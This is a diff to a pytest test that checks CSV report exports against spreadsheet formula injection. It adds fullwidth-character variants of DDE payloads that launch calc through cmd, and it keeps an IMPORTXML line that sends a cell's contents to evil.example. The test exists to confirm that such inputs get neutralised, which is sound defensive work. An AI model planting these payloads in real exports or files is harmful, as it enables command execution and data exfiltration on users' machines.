@@ -37,8 +37,13 @@ FORMULAS = [
     "\t=1+1",
     "\r=1+1",
     '=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")',
+    # Fullwidth forms, which a spreadsheet may fold to = + - @.
+    "\uff1d1+1",
+    "\uff0b1+cmd|' /C calc'!A0",
+    "\uff0d2+3+cmd|' /C calc'!A0",
+    "\uff20SUM(1+1)*cmd|' /C calc'!A0",
 ]
-STARTS = ("=", "+", "-", "@", "\t", "\r")
+STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
 
 
 @pytest.fixture
@@ -118,6 +123,7 @@ def test_no_csv_cell_starts_like_a_formula(app, world, formulas):
     assert failures == []
     # The control: the typed text is in the files, neutralised with a leading apostrophe.
     assert "'" + FORMULAS[0] in seen and "'" + FORMULAS[2] in seen
+    assert {"'" + f for f in FORMULAS if f.startswith(("\uff1d", "\uff0b", "\uff0d", "\uff20"))} <= seen
 
 
 @pytest.mark.parametrize("report", ["completions", "jp", "units", "courses"])
